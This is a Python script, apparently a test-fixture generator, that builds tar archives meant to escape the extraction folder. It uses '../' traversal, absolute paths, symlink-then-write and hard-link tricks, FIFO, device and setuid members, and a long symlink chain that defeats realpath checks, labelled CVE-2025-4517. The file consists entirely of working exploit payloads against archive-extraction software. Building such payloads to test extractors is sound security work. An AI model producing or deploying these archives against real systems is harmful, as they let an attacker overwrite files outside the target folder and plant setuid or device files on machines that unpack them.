"""Write archives that reach outside their folder when they are unpacked without care."""

import io
import tarfile
from pathlib import Path


def main(input_paths, output_paths, environ_vars, job_args):
    out = Path(output_paths["out"])
    target = job_args.target
    pack(out / "dots.tar", member("../../../../../../../.." + target))
    pack(out / "absolute.tar", member(target))
    pack(out / "link_then_write.tar.gz", member("x", tarfile.SYMTYPE, str(Path(target).parent)), member("x/canary"))
    pack(out / "hard_link.tar", member("x", tarfile.LNKTYPE, target), member("x"))
    pack(out / "pipe.tar.bz2", member("pipe", tarfile.FIFOTYPE))
    pack(out / "setuid.tar", member("root", mode=0o4755))
    pack(out / "device.tar.xz", member("null", tarfile.CHRTYPE))
    pack(out / "model.tar.gz", *beyond_realpath(target))


def member(name, kind=tarfile.REGTYPE, linkname="", mode=0o644):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, mode
    info.size = 4 if kind == tarfile.REGTYPE else 0
    return info


def beyond_realpath(target):
    """Links so long that resolving them gives up, and a check of where they lead with it (CVE-2025-4517)."""
    folder, path = "d" * 247, ""
    for name in "abcdefghijklmnop":
        yield member(path + folder, tarfile.DIRTYPE, mode=0o755)
        yield member(path + name, tarfile.SYMTYPE, folder)
        path += folder + "/"
    links = "/".join("abcdefghijklmnop") + "/" + "l" * 254
    yield member(links, tarfile.SYMTYPE, "../" * 16)
    yield member("escape", tarfile.SYMTYPE, links + "/../../../../../../.." + str(Path(target).parent))
    yield member("escape/canary")


def pack(path, *members):
    kind = path.suffix[1:]
    with tarfile.open(path, "w" if kind == "tar" else f"w:{kind}") as archive:
        for info in members:
            archive.addfile(info, io.BytesIO(b"evil") if info.size else None)
